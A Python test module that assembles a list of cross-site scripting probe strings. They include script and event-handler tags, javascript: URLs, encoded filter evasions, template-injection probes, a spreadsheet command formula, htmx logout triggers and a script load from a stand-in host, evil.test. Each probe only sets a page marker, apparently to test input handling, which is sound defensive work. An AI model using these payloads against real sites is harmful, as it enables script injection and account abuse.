"""Two hundred strings that try to run a script, each marking the page when one of them does."""

from __future__ import annotations

from itertools import chain

MARK = "window.__hit=1"
# How a string tries to leave where it was put.
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`>")
# What it then tries to run.
_TAGS = (
    f"<script>{MARK}</script>",
    f"<script src=data:,{MARK}></script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onpageshow={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<math><mtext><img src=x onerror={MARK}></mtext></math>",
    f"<a href=javascript:{MARK} id=x>x</a>",
    f"<form action=javascript:{MARK}><button autofocus>x</button></form>",
    f"<object data=javascript:{MARK}></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f"<marquee onstart={MARK}>x</marquee>",
)
# Attributes that would do harm inside a tag of ours.
_ATTRIBUTES = (
    f'" onmouseover="{MARK}" x="',
    f"' onmouseover='{MARK}' x='",
    f'" autofocus onfocus="{MARK}',
    f'" style="animation-name:x" onanimationstart="{MARK}',
    '" hx-get="/logout" hx-trigger="load',
    '" hx-post="/logout" hx-trigger="load',
    f'" hx-on:load="{MARK}" hx-trigger="load',
    f'" data-hx-on:htmx:load="{MARK}',
    '" sse-connect="/desk/stream" hx-ext="sse',
    f'" href="javascript:{MARK}',
    f'" formaction="javascript:{MARK}',
    f'" srcdoc="<script>{MARK}</script>',
)
# Addresses, templates and characters that are read in two ways.
_OTHERS = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"//evil.test/x.js?{MARK}",
    "{{ config }}",
    "{{ 7*7 }}{% raw %}",
    f"{{{{ ''.__class__ }}}}<script>{MARK}</script>",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<<script>{MARK}//<</script>",
    f"\u202e<script>{MARK}</script>",
    f"＜script＞{MARK}＜/script＞",
    f"<ScRiPt\n>{MARK}</sCrIpT\n>",
    f"<img/src='x'/onerror={MARK}//",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<style>@import 'javascript:{MARK}';</style>",
    f"<link rel=stylesheet href=javascript:{MARK}>",
    f"<base href=javascript:{MARK}//>",
    f"=cmd|' /C calc'!A1<script>{MARK}</script>",
    f"<template><script>{MARK}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<select><template shadowrootmode=open><script>{MARK}</script></template></select>",
)

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain((before + tag for before in _BREAKS for tag in _TAGS), _ATTRIBUTES, _OTHERS)
    )
)[:200]


def packs(size: int) -> list[str]:
    """Give all of them in texts of `size` strings each."""
    return [" ".join(STRINGS[at : at + size]) for at in range(0, len(STRINGS), size)]
